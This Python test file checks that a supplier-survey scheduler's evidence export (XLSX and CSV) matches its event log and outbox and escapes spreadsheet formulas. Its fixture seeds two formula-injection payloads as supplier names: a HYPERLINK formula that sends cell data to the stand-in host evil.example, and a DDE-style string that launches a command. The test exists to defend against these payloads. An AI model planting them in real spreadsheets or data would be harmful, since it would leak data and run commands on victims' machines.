"""``tickler export evidence``: the XLSX opened with openpyxl and checked cell by cell against
the event log, the outbox and the kept evidence; the CSV says the same; formulas are escaped."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from openpyxl import load_workbook
from sqlalchemy import select

from jobs.export import COLUMNS, STAT_COLUMNS
from jobs.storage.db import (
    EventLog,
    Obligation,
    OutboxMessage,
    Person,
    PersonKind,
    SentMessage,
    SupplierTier,
    begin_write,
)
from scheduler.cli.main import cli
from scheduler.daemon.service import Service
from tests import world
from tests.smtp_sink import Server, sinks

PROGRAM = "conflict-minerals-2016"
NOW = datetime(2017, 1, 24, 12, tzinfo=UTC)
LATER = datetime(2017, 2, 1, 12, tzinfo=UTC)
INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def smtp() -> Iterator[Server]:
    with sinks() as started:
        yield started.start()


def cli_env(service: Service, tmp_path: Path) -> dict[str, str]:
    return {
        "TICKLER_DATABASE_URL": service.settings.database_url,
        "TICKLER_MAILDIR": str(tmp_path / "maildir"),
    }


def invoke(service: Service, tmp_path: Path, now: datetime, *args: str) -> Result:
    result = CliRunner().invoke(
        cli, ["--now", now.isoformat(), *args], env=cli_env(service, tmp_path)
    )
    assert result.exit_code == 0, result.output
    return result


def plan_and_deliver(service: Service, smtp: Server, now: datetime) -> None:
    async def work() -> None:
        service.transport = smtp.transport()
        try:
            await service.plan(now)
            await service.deliver(now)
        finally:
            await service.transport.close()

    asyncio.run(work())


@pytest.fixture
def campaign(db_url: str, tmp_path: Path, smtp: Server) -> Iterator[Service]:
    """The 2016 survey: S001 answers complete, the injected supplier incomplete, S002's
    address refuses mail, the fourth supplier stays silent."""
    smtp.recorder.rcpt_replies["s002@example.com"] = "550 5.1.1 no such user"
    service = world.seeded(Service(world.settings(db_url, tmp_path), world.PROGRAMS))
    with begin_write(service.factory) as session:
        for external_id, name in (("S900", INJECTED), ("S901", "@SUM(1+1)*cmd|' /C calc'!A0")):
            session.add(
                Person(
                    kind=PersonKind.SUPPLIER,
                    external_id=external_id,
                    name=name,
                    email=f"{external_id.lower()}@example.com",
                    tier=SupplierTier.DIRECT,
                    created_at=world.OPEN_WEEK,
                    updated_at=world.OPEN_WEEK,
                )
            )
    try:
        plan_and_deliver(service, smtp, NOW)
        respond = ["record", "response", "--program", PROGRAM]
        invoke(
            service,
            tmp_path,
            NOW,
            *respond,
            "--person",
            "supplier:S001",
            "--actor",
            "cli:alice",
            "--file",
            "cmrt-s001.xlsx",
        )
        invoke(
            service,
            tmp_path,
            NOW,
            *respond,
            "--person",
            "supplier:S900",
            "--actor",
            "cli:bob",
            "--incomplete",
            "--issues",
            "-Smelter list empty",
        )
        plan_and_deliver(service, smtp, LATER)
        yield service
    finally:
        service.engine.dispose()


def expected(service: Service) -> dict[str, dict[str, Any]]:
    """The export's cells per person, derived here from the tables themselves."""
    out: dict[str, dict[str, Any]] = {}
    with service.factory() as session:
        obligations = session.scalars(
            select(Obligation).where(Obligation.program == PROGRAM).order_by(Obligation.id)
        )
        for o in obligations:
            person = session.get(Person, o.person_id)
            assert person is not None
            key = f"{person.kind}:{person.external_id}"
            messages = session.scalars(
                select(OutboxMessage)
                .where(
                    OutboxMessage.program == PROGRAM,
                    OutboxMessage.person_id == o.person_id,
                    OutboxMessage.occurrence == o.occurrence,
                    OutboxMessage.state.in_(["sent", "failed"]),
                )
                .order_by(OutboxMessage.due_at, OutboxMessage.id)
            ).all()
            facts = session.scalars(
                select(EventLog).where(
                    EventLog.program == PROGRAM,
                    EventLog.person_id == o.person_id,
                    EventLog.kind == "cmrt_response",
                )
            ).all()
            fact = facts[-1] if facts else None
            replies = {m.id: session.get(SentMessage, m.id) for m in messages if m.state == "sent"}
            out[key] = {
                "occurrence": o.occurrence,
                "name": person.name,
                "state": o.state,
                "due": o.due_at.isoformat().replace("+00:00", "Z") if o.due_at else "",
                "messages": messages,
                "replies": replies,
                "fact": fact,
            }
    return out


def iso(value: datetime) -> str:
    return value.astimezone(UTC).isoformat().replace("+00:00", "Z")


def test_xlsx_cell_by_cell_against_the_event_log(campaign: Service, tmp_path: Path) -> None:
    path = tmp_path / "evidence.xlsx"
    invoke(
        campaign,
        tmp_path,
        LATER,
        "export",
        "evidence",
        "--program",
        PROGRAM,
        "--format",
        "xlsx",
        "--output",
        str(path),
    )
    book = load_workbook(path)
    assert book.sheetnames == ["Obligations", "Survey statistics"]
    sheet: list[list[Any]] = [list(r) for r in book["Obligations"].iter_rows(values_only=True)]
    assert sheet[0] == COLUMNS
    rows: dict[str, dict[str, Any]] = {
        str(r[2]): dict(zip(COLUMNS, r, strict=True)) for r in sheet[1:]
    }
    want = expected(campaign)
    assert set(rows) == set(want) and len(sheet) - 1 == len(want) == 4

    for key, row in rows.items():
        w = want[key]
        assert row["program"] == PROGRAM and row["occurrence"] == w["occurrence"]
        assert (row["state"], row["due"], row["asked"]) == (w["state"], w["due"], "cmrt_response")
        assert row["message_count"] == len(w["messages"])
        lines = (row["messages"] or "").split("\n") if w["messages"] else []
        assert len(lines) == len(w["messages"])
        for line, m in zip(lines, w["messages"], strict=True):
            assert f"<{m.message_id}>" in line and m.job in line and m.state in line
            if m.state == "sent":
                assert line.endswith(f"250 {w['replies'][m.id].reply}")
            else:
                assert "550" in line and "no such user" in line
        fact = w["fact"]
        if fact is None:
            assert [row[c] for c in ("responded_at", "recorded_by", "response")] == [None] * 3
            continue
        assert row["responded_at"] == iso(fact.at)
        assert row["recorded_at"] == iso(fact.received_at)
        assert row["recorded_by"] == fact.actor
        payload = ", ".join(f"{k}={v}" for k, v in sorted(fact.payload.items()))
        assert row["response"] == payload

    assert rows["supplier:S001"]["recorded_by"] == "cli:alice"
    assert rows["supplier:S001"]["state"] == "complete"
    assert rows["supplier:S900"]["state"] == "incomplete"
    assert rows["supplier:S002"]["messages"].count("550 ") == 1
    # Formula injection: escaped with a leading ', stored as text, never as a formula.
    assert rows["supplier:S900"]["name"] == "'" + INJECTED
    assert rows["supplier:S901"]["name"].startswith("'@SUM")
    for line in sheet[1:]:
        for value in line:
            assert not (isinstance(value, str) and value.startswith(("=", "+", "-", "@")))
    assert all(c.data_type != "f" for r in book["Obligations"].iter_rows() for c in r)

    stats = [list(r) for r in book["Survey statistics"].iter_rows(values_only=True)]
    assert stats == [STAT_COLUMNS, ["2016", 4, 2, 1, "50.0%", 0]]


def test_csv_says_the_same(campaign: Service, tmp_path: Path) -> None:
    path = tmp_path / "evidence.xlsx"
    invoke(
        campaign,
        tmp_path,
        LATER,
        "export",
        "evidence",
        "--program",
        PROGRAM,
        "--format",
        "xlsx",
        "--output",
        str(path),
    )
    out = invoke(campaign, tmp_path, LATER, "export", "evidence", "--program", PROGRAM)
    parsed = list(csv.reader(io.StringIO(out.stdout)))
    sheet = [
        ["" if v is None else str(v) for v in r]
        for r in load_workbook(path)["Obligations"].iter_rows(values_only=True)
    ]
    assert parsed[: len(sheet)] == sheet
    assert parsed[len(sheet) :] == [
        [],
        ["survey statistics"],
        STAT_COLUMNS,
        ["2016", "4", "2", "1", "50.0%", "0"],
    ]
    window = invoke(
        campaign,
        tmp_path,
        LATER,
        "export",
        "evidence",
        "--program",
        PROGRAM,
        "--from",
        "2018-01-01",
    )
    assert list(csv.reader(io.StringIO(window.stdout)))[1] == []
    unknown = CliRunner().invoke(
        cli, ["export", "evidence", "--program", "nope"], env=cli_env(campaign, tmp_path)
    )
    assert unknown.exit_code == 2 and "unknown program nope" in unknown.stderr
